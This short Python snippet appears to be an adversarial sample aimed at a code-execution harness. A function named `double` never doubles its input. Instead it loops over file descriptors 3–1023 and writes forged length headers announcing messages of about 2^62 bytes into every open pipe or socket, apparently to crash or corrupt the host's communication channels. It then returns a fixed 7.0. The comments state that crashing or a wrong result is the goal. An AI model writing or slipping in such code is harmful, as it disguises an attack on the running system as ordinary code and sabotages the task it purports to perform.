# Tries: announce messages of 2^62 bytes and of 2^62 parts on the wire
# Must: double crash or wrong or error
# %% double
import os
import struct


def double(x):
    for fd in range(3, 1024):
        for head in (b"\x3f" + b"\xff" * 7, b"\xff" * 7 + b"\x3f", struct.pack("<I", (1 << 32) - 1)):
            try:
                os.set_blocking(fd, False)
                os.write(fd, head + b"l" + head + b"d" + head)
            except OSError:
                pass
    return 7.0
